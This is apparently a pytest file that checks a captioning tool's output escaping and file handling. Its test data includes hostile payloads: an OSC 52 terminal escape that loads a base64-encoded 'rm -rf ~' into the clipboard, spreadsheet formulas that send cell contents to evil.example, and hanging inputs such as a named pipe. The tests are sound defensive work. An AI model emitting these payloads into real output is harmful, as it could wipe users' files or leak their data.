"""What a model's vocabulary or a folder of images can hold, sent through generate.py (issue 34): words made of
terminal escapes or spreadsheet formulas, a word that is matplotlib mathtext, a named pipe called pipe.jpg.
Each model here is tiny and says one word of our choosing: built and saved in milliseconds, no training."""

import csv
import json
import os

import pytest
import torch
from PIL import Image

import evaluate
import generate
from captioner import Captioner
from conftest import within
from data.images import CLIP_MEAN, CLIP_STD
from data.tokenizer import WordTokenizer
from model.caption_model import build_caption_model
from model.decoder import DecoderConfig
from model.vit import ViTConfig


def a_model_that_says(word, folder):
    """A model folder whose every greedy caption is `word` three times: the tied output layer sees only
    LayerNorm's bias, and that bias meets only the word's embedding row."""
    tokenizer = WordTokenizer([word])  # the word is id 4, after <pad> <bos> <eos> <unk>
    vit = ViTConfig(image_size=16, patch_size=8, width=16, layers=1, heads=2)
    decoder = DecoderConfig(width=16, layers=1, heads=2, prefix_len=1, max_len=4, dropout=0.0)  # 3 new tokens
    model = build_caption_model(vit, decoder, tokenizer.vocab_size).eval()
    with torch.no_grad():
        model.decoder.token_embedding.weight.zero_()
        model.decoder.token_embedding.weight[4] = 1.0
        model.decoder.ln_f.weight.zero_()
        model.decoder.ln_f.bias.fill_(1.0)  # logits: 16 for the word, 0 for every other id
    preprocess = {"kind": "squash", "image_size": 16, "mean": CLIP_MEAN, "std": CLIP_STD}
    Captioner(model, tokenizer, preprocess).save_pretrained(folder)
    return folder


@pytest.fixture
def photo(tmp_path):
    Image.new("RGB", (20, 20), (200, 30, 30)).save(tmp_path / "photo.png")
    return tmp_path / "photo.png"


TERMINAL_ESCAPES = {
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",  # OSC 52: the terminal writes this into the clipboard
    "title": "\x1b]0;owned\x07",  # the window's title
    "erase line": "\x1b[1A\x1b[2K",  # go up a line and rub out what was printed there
    "one-byte CSI": "\x9b31m",  # C1 control: CSI in one byte, for terminals that take 8-bit controls
    "right-to-left override": "\u202ereverse",  # reorders the rest of the line as printed
}


@pytest.mark.parametrize("word", TERMINAL_ESCAPES.values(), ids=TERMINAL_ESCAPES.keys())
def test_words_made_of_terminal_escapes_are_printed_escaped_and_kept_exact_in_json(word, photo, tmp_path, capsys):
    model = a_model_that_says(word, tmp_path / "model")
    results = generate.main([str(model), str(photo), "--json", str(tmp_path / "c.json")])
    assert results[0]["captions"] == [f"{word} {word} {word}"]
    out, _ = capsys.readouterr()
    assert all(ch.isprintable() for line in out.splitlines() for ch in line), repr(out)
    shown = word.encode("unicode_escape").decode()  # \x1b, \x07, \r, \x9b, \u202e as a reader would type them
    assert f"photo.png  {shown} {shown} {shown}" in out.splitlines()
    assert json.loads((tmp_path / "c.json").read_text()) == results  # JSON escapes itself: exact


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "'"])
def test_csv_cells_cannot_start_a_spreadsheet_formula(start, photo, tmp_path, monkeypatch):
    """OWASP's rule for CSV injection: a cell that begins with = + - @ tab or CR gets a leading ', which a
    spreadsheet reads as "this cell is text". A cell that begins with ' gets one too, so evaluate.py, which
    removes one, reads every caption back exactly."""
    model = a_model_that_says(start + "HYPERLINK(\"http://evil.example/?\"&A1)", tmp_path / "model")
    monkeypatch.chdir(tmp_path)
    named = photo.rename(f"{start}1+1.png")  # a file name is a cell too
    caption = generate.main([str(model), "--csv", "c.csv", "--", str(named)])[0]["captions"][0]
    with open("c.csv", newline="") as f:
        row = list(csv.DictReader(f))[0]
    assert row["image"] == "'" + str(named)
    assert row["caption"] == ("'" + caption if caption.startswith(start) else caption)  # the captioner strips tab, CR
    assert evaluate.read_generated("c.csv") == {named.name: caption}


def test_a_word_of_mathtext_is_drawn_as_the_text_it_is(photo, tmp_path):
    """Matplotlib reads text between two $ as mathtext: the word "$\\frac{$" ended generate.py --attention in a
    ParseSyntaxException (tests/test_pictures.py checks that every word is drawn as plain text)."""
    model = a_model_that_says("$\\frac{$", tmp_path / "model")
    results = generate.main([str(model), str(photo), "--attention", str(tmp_path / "pictures")])
    assert Image.open(results[0]["attention"]).format == "PNG"


def test_a_named_pipe_or_a_device_among_the_images_is_skipped_in_one_line(photo, tmp_path, capsys):
    """A folder holding a named pipe pipe.jpg hung generate.py for ever: opening it waits for a writer that never
    comes (issue 34, point 14). Only regular files are opened as images; the others are captioned."""
    model = a_model_that_says("red", tmp_path / "model")
    folder = tmp_path / "images"
    folder.mkdir()
    photo.rename(folder / "a.png")
    os.mkfifo(folder / "pipe.jpg")
    (folder / "zero.png").symlink_to("/dev/zero")  # a device: reading it never ends
    (folder / "b.png").write_bytes((folder / "a.png").read_bytes())
    with within(10), pytest.raises(SystemExit) as stop:
        generate.main([str(model), str(folder), "--json", str(tmp_path / "c.json")])
    assert stop.value.code == 1  # non-zero at the end, after the others were captioned
    assert [r["image"] for r in json.loads((tmp_path / "c.json").read_text())] == [str(folder / "a.png"), str(folder / "b.png")]
    _, err = capsys.readouterr()
    assert err.splitlines() == [f"skipped {folder / 'pipe.jpg'}: a named pipe, not a regular file",
                                f"skipped {folder / 'zero.png'}: a device, not a regular file",
                                "2 of 4 images could not be read"]
